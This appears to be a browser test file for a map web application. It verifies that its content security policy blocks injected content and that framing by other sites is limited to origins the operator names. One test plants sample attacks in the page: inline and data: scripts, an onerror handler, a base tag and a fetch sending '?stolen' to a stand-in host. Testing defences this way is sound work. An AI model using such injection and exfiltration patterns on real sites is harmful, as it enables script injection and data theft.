// What the pages may load and run: the content security policy stops an injected script and breaks none of the views,
// and other sites show the map in a frame only where the operator says so.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { signIn } from './editing.mjs';
import { idle, test, visit } from './harness.mjs';
import { start, stop } from './servers.mjs';
import { VIEWS } from './views.mjs';

/** Collects what the policy stops, in every document that the page loads. */
async function watchPolicy(page) {
  const stopped = [];
  await page.exposeFunction('tellStopped', (what) => stopped.push(what));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      window.tellStopped(`${event.effectiveDirective} ${event.blockedURI} ${event.sample} at ${event.sourceFile}:${event.lineNumber}`);
    });
  });
  return stopped;
}

/** Opens the map with a watch on its policy; `steps` gets the page and what was stopped so far. */
function visitWatched(path, steps, options = {}) {
  let stopped;
  const prepare = async (page) => {
    stopped = await watchPolicy(page);
  };
  return visit(path, (page) => steps(page, stopped), { prepare, ...options });
}

/** Views with parts of their own. In the tests of the others, what a policy stops fails as an error of the console. */
const WATCHED = ['legend', 'detail', 'table', 'ask rate', 'money', 'share', 'two maps', 'paper', 'frame'];

test('no view needs what the policy forbids', () =>
  visitWatched('', async (page, stopped) => {
    for (const { name, path, shows, click } of VIEWS.filter((view) => WATCHED.includes(view.name))) {
      await page.goto(new URL(path, page.url()).href);
      await page.locator(shows).first().waitFor();
      if (click) await page.locator(click).first().click();
      assert.deepEqual(stopped, [], name);
    }
    await page.goto(new URL('?city=celje', page.url()).href);
    await idle(page);
    assert.deepEqual(stopped, []);
  }));

test('signing in, the form of an edit and its map need nothing that the policy forbids', () =>
  visitWatched('?city=celje', async (page, stopped) => {
    await idle(page);
    await signIn(page);
    await page.locator('.row').first().click();
    await page.locator('.detail h1').waitFor();
    await page.getByRole('button', { name: 'Edit', exact: true }).first().click();
    await page.locator('form').first().waitFor();
    await idle(page);
    assert.deepEqual(stopped, []);
  }));

test('the pages of the API, of an error and of the statement need nothing that the policy forbids', () =>
  visitWatched(
    'api?f=html',
    async (page, stopped) => {
      const feature = 'api/collections/interventions/items/celje-parking-teharska?f=html';
      const pages = ['api/collections?f=html', feature, 'api/openapi?f=html', 'accessibility/en.html', 'api/nothing'];
      for (const path of pages) {
        await page.goto(new URL(`/${path}`, page.url()).href);
        await page.locator('h1').first().waitFor();
        if (path.includes('openapi')) await page.locator('#api-viewer .opblock-tag').first().waitFor();
        const margin = await page.evaluate(() => getComputedStyle(document.body).marginTop);
        assert.equal(margin, '0px', `the style of ${path} is applied`);
        assert.deepEqual(stopped, [], path);
      }
    },
    { expectErrors: [/status of 404/] },
  ));

test('a script, a style and a handler that get into the page do nothing', () =>
  visitWatched(
    '',
    async (page, stopped) => {
      await page.locator('.partner').first().waitFor();
      await page.evaluate(async () => {
        const script = document.createElement('script');
        script.textContent = 'window.injected = "script"';
        const remote = document.createElement('script');
        remote.src = 'data:text/javascript,window.injected="data"';
        document.body.append(script, remote);
        const holder = document.createElement('div');
        holder.innerHTML = '<img src="data:," onerror="window.injected=\'handler\'"><style>body { outline: 7px solid red }</style>';
        const base = document.createElement('base');
        base.href = 'https://elsewhere.example/';
        document.head.append(base);
        document.body.append(holder);
        // Later: the browser lets the console itself evaluate text.
        setTimeout(() => new Function('window.injected = "eval"')());
        await fetch('https://elsewhere.example/?stolen').catch(() => {});
        await new Promise((settle) => setTimeout(settle, 200));
      });
      assert.equal(await page.evaluate(() => window.injected), undefined);
      assert.notEqual(await page.evaluate(() => getComputedStyle(document.body).outlineWidth), '7px');
      const directives = new Set(stopped.map((what) => what.split(' ')[0]));
      for (const directive of ['script-src-elem', 'script-src-attr', 'script-src', 'style-src-elem', 'base-uri', 'connect-src'])
        assert.ok(directives.has(directive), `${directive} is not among ${[...directives].join()}`);
    },
    { expectErrors: [/Content Security Policy/, /unsafe-eval/, /elsewhere\.example/] },
  ));

/** A page of another site with a frame, whose address it is told before the page is opened. */
async function serveSite() {
  const site = { address: '' };
  const server = createServer((_, response) => {
    response.writeHead(200, { 'Content-Type': 'text/html' });
    response.end(`<!doctype html><title>Site</title><link rel="icon" href="data:,"><iframe src="${site.address}" width="900" height="600"></iframe>`);
  });
  await new Promise((settle) => server.listen(0, '127.0.0.1', settle));
  return Object.assign(site, { at: `http://127.0.0.1:${server.address().port}/`, close: () => server.close() });
}

const FRAME_ERRORS = [/frame-ancestors|Framing|refused to connect/i, /request to another host/];

test('another site shows the map in a frame only where the operator names it, and never a page of the API', async () => {
  const site = await serveSite();
  const own = new URL(site.at).origin;
  for (const [allowed, path, isShown] of [
    ['self', '?embed=1', false],
    ['none', '?embed=1', false],
    ['https://www.example.org', '?embed=1', false],
    [`https://www.example.org,${own}`, '?embed=1', true],
    ['any', '?embed=1', true],
    ['any', 'api?f=html', false],
  ]) {
    const map = await start(['demo', '--listen', '127.0.0.1:0', '--frame-ancestors', allowed]);
    site.address = map.at + path;
    const steps = async (page) => {
      const frame = page.frameLocator('iframe');
      if (isShown) {
        await frame.locator('.embed-bar').waitFor();
        await frame.locator('.maplibregl-canvas').waitFor();
      } else {
        await page.waitForFunction(() => document.readyState === 'complete');
        assert.equal(page.frames()[1].url(), 'chrome-error://chromewebdata/', `${allowed} ${path}`);
      }
    };
    await visit('', steps, { at: site.at, expectErrors: FRAME_ERRORS }).finally(() => stop(map));
  }
  site.close();
});
